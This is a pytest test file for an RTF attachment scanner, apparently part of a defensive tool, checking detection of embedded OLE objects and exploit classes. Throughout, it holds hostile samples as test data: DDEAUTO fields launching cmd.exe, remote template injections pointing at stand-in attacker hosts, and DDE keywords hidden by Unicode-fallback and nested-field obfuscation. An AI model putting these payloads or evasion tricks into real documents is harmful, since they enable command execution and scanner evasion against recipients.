"""The rtf engine on RTF documents built here and on oletools' own real samples."""

from __future__ import annotations

from pathlib import Path

import pytest
from oletools import rtfobj

from attachguard.codes import Code, FindingCode
from attachguard.engines.base import Child, Item, Result
from attachguard.engines.rtf import RtfEngine, _Parser
from attachguard.policy import Limits, Policy
from attachguard.report import FileType
from support import oletools_data as testdata
from support.oletools_data import ole_file, ole_native, read_sample, rtf_object

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EQUATION_CLSID = "0002CE02-0000-0000-C000-000000000046"
ENGINE = RtfEngine()
oletools_data = testdata.oletools_data  # the session fixture, used by name below


def scan(data: bytes, policy: Policy) -> Result:
    return ENGINE.scan(
        Item("upload.rtf", data, FileType("rtf", "text/rtf", "text", True)), policy.context()
    )


def codes(result: Result) -> list[Code]:
    return [f.code for f in result.findings]


def test_package_is_found_and_its_file_returned(policy: Policy) -> None:
    result = scan(rtf_object("Package", ole_native("eicar.com", EICAR, with_size=False)), policy)
    [found] = result.findings
    assert found.code is FindingCode.OLE_OBJECT
    assert found.message == "embedded object (Package) in the RTF document"
    assert (found.label, found.location) == ("Package", "object 1")
    assert result.children == [Child("object 1/eicar.com", EICAR)]


@pytest.mark.parametrize(
    ("class_name", "cve"), [("Equation.3", "CVE-2017-11882"), ("OLE2Link", "CVE-2017-0199")]
)
def test_exploited_classes_are_named(class_name: str, cve: str, policy: Policy) -> None:
    inner = ole_file({"Equation Native": b"\x1c\x00" + b"A" * 40})
    result = scan(rtf_object(class_name, inner), policy)
    [found] = result.findings
    assert found.code is FindingCode.OLE_OBJECT and found.label == class_name
    assert cve in found.message
    assert result.children == [Child("object 1", inner)]  # the OLE file itself, scanned in turn


def test_exploited_class_id_is_named(policy: Policy) -> None:
    inner = ole_file({"Workbook": b"\x09\x08" + b"\0" * 20}, clsid=EQUATION_CLSID)
    [found] = scan(rtf_object("Excel.Sheet.8", inner), policy).findings
    assert found.label == "Excel.Sheet.8"
    assert "CVE-2017-11882" in found.message


def test_dde_field(policy: Policy) -> None:
    field = b'{\\field{\\*\\fldinst DDEAUTO "c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc"}}'
    [found] = scan(b"{\\rtf1\\ansi Totals: " + field + b"\\par}", policy).findings
    assert found.code is FindingCode.DDE
    assert found.message == "DDE field in the RTF document"


def test_clean_document_with_fields_and_a_picture(policy: Policy) -> None:
    data = (
        b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Your refund is on its way.\\par "
        b'{\\field{\\*\\fldinst HYPERLINK "https://shop.example/"}{\\fldrslt our site}}\\par '
        b"{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}"
        b"{\\pict\\pngblip\\picw1\\pich1 89504e470d0a1a0a0000000d49484452}"
        b"{\\object\\objemb{\\*\\objdata }}\\par}"  # an empty object holds nothing
    )
    result = scan(data, policy)
    assert result.findings == [] and result.children == []


def test_not_rtf_or_damaged(policy: Policy) -> None:
    assert codes(scan(b"Hello, this is plain text", policy)) == [FindingCode.CORRUPT]
    # rtfobj cannot parse a control word cut off at the very end of the file
    result = scan(b"{\\rtf1 {\\fldinst PAGE} \\", policy)
    assert [(f.code, f.message) for f in result.findings] == [
        (FindingCode.CORRUPT, "damaged RTF document")
    ]


def test_children_are_capped(policy: Policy) -> None:
    one = policy.model_copy(update={"limits": Limits(max_members=1)})
    package = rtf_object("Package", ole_native("a.js", b"hello", with_size=False))
    two = package[:-1] + package[package.index(b"{\\object") :]
    result = scan(two, one)
    assert codes(result) == [
        FindingCode.OLE_OBJECT,
        FindingCode.OLE_OBJECT,
        FindingCode.ARCHIVE_MEMBERS,
    ]
    assert [c.where for c in result.children] == ["object 1/a.js"]


OBFUSCATED = [
    # Word drops the hex digit before \'hh when it has read an odd number of them
    b"{\\rtf1{\\object{\\*\\objdata 0105000002\\'41000000\\'ff0b00000050616}}}",
    b"{\\rtf1{\\object{\\*\\objdata 01 05\n00{\\unknown x}0002\\bin3 abc 0000}}}",
    b"{\\rtf1{\\object{\\*\\objdata 0105000002000000}{\\*\\objdata abcdef0}}}",
]


@pytest.mark.parametrize("data", OBFUSCATED)
def test_parser_gives_the_same_objects_as_rtfobj(data: bytes) -> None:
    ours, theirs = _Parser(data), rtfobj.RtfObjParser(data)
    ours.parse()
    theirs.parse()
    assert [bytes(o.rawdata) for o in ours.objects] == [o.rawdata for o in theirs.objects]
    assert ours.objects


@pytest.mark.parametrize(
    ("path", "label", "cve"),
    [
        ("rtfobj/issue_251.rtf", "equation.3", "CVE-2017-11882"),
        ("rtfobj/issue_185.rtf.zip", None, None),
    ],
)
def test_sample_objects(
    path: str, label: str | None, cve: str | None, oletools_data: Path, policy: Policy
) -> None:
    data = read_sample(oletools_data, path)
    result = scan(data, policy)
    [found] = result.findings
    assert (found.code, found.label) == (FindingCode.OLE_OBJECT, label)
    assert cve is None or cve in found.message
    assert len(result.children) == 1
    theirs = rtfobj.RtfObjParser(data)
    theirs.parse()
    assert result.children[0].data == theirs.objects[0].rawdata


def test_sample_clean_specification(oletools_data: Path, policy: Policy) -> None:
    """The RTF 1.7 specification: 2 MB, 1,500 fields, no objects."""
    result = scan(read_sample(oletools_data, "msodde/RTF-Spec-1.7.rtf"), policy)
    assert result.findings == [] and result.children == []


@pytest.mark.parametrize(
    ("rtf", "code"),
    [
        (rb"{\rtf1\ansi{\*\template http://203.0.113.5/payload.dot} Hello\par}", "EXTERNAL_LINK"),
        (rb"{\rtf1\ansi{\*\template \\\\203.0.113.5\share\x.dot} Hello\par}", "EXTERNAL_LINK"),
        # a share in the other forms Windows takes: mixed separators, its NT namespace
        (rb"{\rtf1\ansi{\*\template /\\203.0.113.5\\s\\x.dot} Hello\par}", "EXTERNAL_LINK"),
        (rb"{\rtf1{\*\template \\??\\UNC\\203.0.113.5\\s\\x.dot} Hi\par}", "EXTERNAL_LINK"),
        (
            rb'{\rtf1{\field{\*\fldinst INCLUDEPICTURE "http://x/y.png"}{\fldrslt x}}}',
            "EXTERNAL_LINK",
        ),
        (rb"{\rtf1{\field{\*\fldinst \'44DEAUTO c:\\x.exe}{\fldrslt x}}}", "DDE"),
        (rb"{\rtf1{\field{\*\fldinst DDE\'41UTO c:\\x.exe}{\fldrslt x}}}", "DDE"),
        (rb"{\rtf1{\field{\*\fldinst \u68?DEAUTO c:\\x.exe}{\fldrslt x}}}", "DDE"),
    ],
)
def test_escaped_dde_and_remote_fetches(policy: Policy, rtf: bytes, code: str) -> None:
    from attachguard.engines.base import Item
    from attachguard.engines.rtf import RtfEngine
    from attachguard.report import FileType

    item = Item("letter.rtf", rtf, FileType("rtf", "text/rtf", "text", True))
    assert [f.code.name for f in RtfEngine().scan(item, policy.context()).findings] == [code]


@pytest.mark.parametrize(
    "rtf",
    [
        rb"{\rtf1\ansi{\*\template C:\\Templates\\Normal.dot} Hello\par}",
        rb"{\rtf1\ansi{\*\template \\\\?\\C:\\Templates\\Normal.dot} Hello\par}",
        rb'{\rtf1{\field{\*\fldinst HYPERLINK "http://example.com"}{\fldrslt x}}}',
        rb"{\rtf1{\field{\*\fldinst PAGE}{\fldrslt 1}} caf\'e9 \u233? done}",
    ],
)
def test_local_templates_links_and_escaped_text_pass(policy: Policy, rtf: bytes) -> None:
    from attachguard.engines.base import Item
    from attachguard.engines.rtf import RtfEngine
    from attachguard.report import FileType

    item = Item("letter.rtf", rtf, FileType("rtf", "text/rtf", "text", True))
    assert RtfEngine().scan(item, policy.context()).findings == []


# -- red team 100: \ucN fallbacks counted as the specification counts them; computed types -------

DDEAUTO_CMD = rb'DEAUTO c:\\windows\\system32\\cmd.exe "/c calc"'


def field(instruction: bytes) -> bytes:
    return rb"{\rtf1\ansi{\field{\*\fldinst " + instruction + rb"}{\fldrslt x}}\par}"


@pytest.mark.parametrize(
    ("rtf", "code"),
    [
        # the fallback of \u68 is the control word (RTF 1.9.1: one character), not the "D" after
        (field(rb"\uc1\u68\lang1033 " + DDEAUTO_CMD), "DDE"),
        (field(rb"\uc1\u68\'44" + DDEAUTO_CMD), "DDE"),
        (field(rb"\uc2\u68\f0\b D" + DDEAUTO_CMD[1:]), "DDE"),
        (field(rb"\uc1\u68\u68" + DDEAUTO_CMD), "DDE"),  # a \uN is a control word too
        (field(rb"\uc1\u68\bin1 ?" + DDEAUTO_CMD), "DDE"),  # \bin with its data: one
        # a brace ends the fallback: "{DEAUTO" keeps its D
        (field(rb"\uc1\u68{" + DDEAUTO_CMD + b"}"), "DDE"),
        (field(rb'\uc1\u73\f0 NCLUDEPICTURE "http://attacker.example/p.png" \\d'), "EXTERNAL_LINK"),
        (rb"{\rtf1{\*\template \uc1\u92\f0 \\attacker-host\\s\\t.dotm} Hi\par}", "EXTERNAL_LINK"),
        (rb"{\rtf1{\*\hlinkbase \uc1\u92\f0 \\attacker-host\\share} Hi\par}", "EXTERNAL_LINK"),
    ],
    ids=["control-word", "hex-escape", "two-words", "u-word", "bin", "open-brace",
         "includepicture", "template", "hlinkbase"],
)  # fmt: skip
def test_unicode_fallbacks_are_counted_as_word_counts_them(
    policy: Policy, rtf: bytes, code: str
) -> None:
    assert [f.code.name for f in scan(rtf, policy).findings] == [code]


@pytest.mark.parametrize(
    "rtf",
    [
        field(rb"\uc1\u80\f0 AGE"),  # PAGE: the control word is the fallback, no letter lost
        field(rb"\uc1\u80?AGE"),
        rb"{\rtf1{\field{\*\fldinst PAGE}{\fldrslt 1}} \uc1\u233\'e9 caf\u233?\par}",
    ],
)
def test_honest_unicode_fallbacks_pass(policy: Policy, rtf: bytes) -> None:
    assert scan(rtf, policy).findings == []


QUOTED_DDE = rb"{\field{\*\fldinst QUOTE 68 68 69 65 85 84 79}{\fldrslt x}}"


@pytest.mark.parametrize(
    "lead",
    [b"", b'"', rb"\\* ", rb"\\* MERGEFORMAT ", rb"\~", rb"\'a0", rb"\emspace "],
    ids=["bare", "quoted", "switch", "switch-argument", "nbsp", "hex-nbsp", "emspace"],
)
def test_a_type_computed_by_a_nested_field_is_ambiguous(policy: Policy, lead: bytes) -> None:
    # the type word holds the nested field however it is led, as the .docx reader reads it
    closing = b'"' if lead == b'"' else b""
    rtf = field(lead + QUOTED_DDE + closing + rb" c:\\windows\\system32\\cmd.exe")
    [found] = scan(rtf, policy).findings
    assert (found.code.name, found.message) == (
        "AMBIGUOUS",
        "field whose type is computed by a nested field in the RTF document",
    )


def test_a_nested_field_in_an_argument_is_no_computed_type(policy: Policy) -> None:
    nested = rb"{\field{\*\fldinst MERGEFIELD Amount}{\fldrslt 1}}"
    rtf = field(rb'IF "' + nested + rb'" = "1" "one" "many"')
    assert scan(rtf, policy).findings == []
